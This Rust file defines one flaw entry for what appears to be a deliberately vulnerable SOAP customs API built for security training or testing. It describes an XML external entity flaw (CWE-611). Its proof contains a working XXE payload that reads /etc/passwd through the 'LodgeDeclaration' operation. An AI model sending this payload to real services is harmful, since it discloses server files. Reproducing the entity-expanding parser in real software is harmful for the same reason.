use crate::{
    flaws::{FlawItem, Protocol},
    proof::{Expect::Has, raw},
};

/// An external entity reads files.
pub(crate) static FLAW: FlawItem = FlawItem {
    id: "xml-file-entity",
    title: "An external entity reads files",
    owasp: "API8:2019",
    cwe: 611,
    protocol: Protocol::Soap,
    operation: "LodgeDeclaration",
    what: "Entities that name a file are replaced by its content.",
    proof: &[raw("ada", "/soap", "text/xml; charset=utf-8", r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:q="urn:quayside:customs"><s:Body><q:LodgeDeclaration><goods>&e;</goods><value>1</value></q:LodgeDeclaration></s:Body></s:Envelope>"#).shows(&[Has("root:x:0")])],
};
